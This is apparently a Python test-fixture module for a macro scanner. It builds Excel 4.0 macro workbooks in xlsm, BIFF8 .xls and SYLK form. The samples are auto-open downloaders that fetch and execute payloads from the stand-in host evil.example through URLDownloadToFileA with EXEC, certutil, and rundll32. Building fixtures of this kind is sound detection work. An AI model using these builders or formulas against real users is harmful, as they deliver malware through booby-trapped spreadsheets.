"""Excel 4.0 macro workbooks written here (no binaries in the tree): xlsm from XML parts, a
BIFF8 .xls with a macro sheet through the CFB writer of tests/unit/scan/vbafiles.py, SYLK as text."""

from __future__ import annotations

import io
import struct
import zipfile
from xml.sax.saxutils import escape

from tests.unit.scan.vbafiles import _biff, write_cfb

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

DOWNLOADER = ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://"&"evil.example/p.exe",'
              '"c:\\users\\public\\p.exe",0,0)', 'EXEC("c:\\users\\public\\p.exe")', "HALT()"]
HARMLESS = ["SUM(1,2)", "HALT()"]


def xlsm(formulas: list[str], *, auto_open: bool = True, macro_sheet: bool = True) -> bytes:
    kind = "xlMacrosheet" if macro_sheet else "worksheet"
    ctype = "ms-excel.macrosheet+xml" if macro_sheet else \
        "openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    folder = "macrosheets" if macro_sheet else "worksheets"
    rel_base = "http://schemas.microsoft.com/office/2006/relationships" if macro_sheet \
        else OFFICE_RELS
    names = ('<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
             '</definedNames>') if auto_open else ""
    cells = "".join(f'<row r="{i}"><c r="A{i}"><f>{escape(f)}</f><v>0</v></c></row>'
                    for i, f in enumerate(formulas, 1))
    root = "xm:macrosheet" if macro_sheet else "worksheet"
    parts = {
        "[Content_Types].xml":
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
            '/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
            'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
            '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/' + folder +
            '/sheet1.xml" ContentType="application/vnd.' + ctype + '"/></Types>',
        "_rels/.rels":
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship '
            f'Id="rId1" Type="{OFFICE_RELS}/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>',
        "xl/workbook.xml":
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="'
            f'{OFFICE_RELS}"><sheets><sheet name="Macro1" sheetId="1" r:id="rId1"/></sheets>'
            f'{names}</workbook>',
        "xl/_rels/workbook.xml.rels":
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship '
            f'Id="rId1" Type="{rel_base}/{kind}" Target="{folder}/sheet1.xml"/></Relationships>',
        f"xl/{folder}/sheet1.xml":
            f'<?xml version="1.0" encoding="UTF-8"?><{root} xmlns="{MAIN}" xmlns:xm="http://'
            f'schemas.microsoft.com/office/excel/2006/main"><sheetData>{cells}</sheetData>'
            f'</{root}>',
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in parts.items():
            zf.writestr(name, text)
    return buf.getvalue()


# BIFF8 formula tokens ([MS-XLS] 2.5.198): a string literal, and a fixed-argument function call
# by its Ftab index (EXEC 110, HALT 54).
def ptg_str(text: str) -> bytes:
    return b"\x17" + struct.pack("<BB", len(text), 0) + text.encode("latin-1")


def ptg_func(index: int) -> bytes:
    return b"\x41" + struct.pack("<H", index)


EXEC, HALT = 110, 54
XLS_DOWNLOADER = [ptg_str("cmd /c certutil -urlcache -f http://evil.example/x.exe x.exe")
                  + ptg_func(EXEC), ptg_func(HALT)]


def xls(formulas: list[bytes], *, auto_open: bool = True) -> bytes:
    """A Workbook stream: globals (BOF, a macro-sheet BOUNDSHEET8, SUPBOOK/EXTERNSHEET and the
    built-in Auto_Open NAME at Macro1!$A$1), then the macro sheet's FORMULA records."""
    name = b"Macro1"
    eof = _biff(0x000A, b"")
    bof_globals = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x1F35, 0x07CD, 0, 0x0106))

    def boundsheet(position: int) -> bytes:
        return _biff(0x0085, struct.pack("<IBB", position, 0, 0x01)
                     + struct.pack("<BB", len(name), 0) + name)

    links = b""
    if auto_open:
        ref = b"\x3a" + struct.pack("<HHH", 0, 0, 0)  # ptgRef3d: sheet 0, $A$1
        links = (_biff(0x01AE, struct.pack("<HH", 1, 0x0401))
                 + _biff(0x0017, struct.pack("<HHHH", 1, 0, 0, 0))
                 + _biff(0x0018, struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, len(ref), 0, 1, 0, 0,
                                             0, 0) + b"\x00\x01" + ref))
    size = len(bof_globals) + len(boundsheet(0)) + len(links) + len(eof)
    stream = bof_globals + boundsheet(size) + links + eof
    stream += _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0040, 0x1F35, 0x07CD, 0, 0x0106))
    for row, rgce in enumerate(formulas):
        stream += _biff(0x0006, struct.pack("<HHH", row, 0, 0) + b"\x00" * 8
                        + struct.pack("<HIH", 0, 0, len(rgce)) + rgce)
    stream += eof
    cfb = bytearray(write_cfb({"Workbook": stream}))
    root = cfb.find("Root Entry".encode("utf-16-le"))
    cfb[root + 0x50:root + 0x60] = bytes.fromhex("2008020000000000c000000000000046")  # Excel
    return bytes(cfb)


SYLK = (b'ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1\r\n'
        b'C;X1;Y1;K0;ECALL("urlmon","URLDownloadToFileA","JJCCJJ",0,'
        b'"https://evil.example/s.dll","c:\\users\\public\\s.dll",0,0)\r\n'
        b'C;X1;Y2;K0;EEXEC("rundll32 c:\\users\\public\\s.dll,Start")\r\nC;X1;Y3;K0;EHALT()\r\nE\r\n')
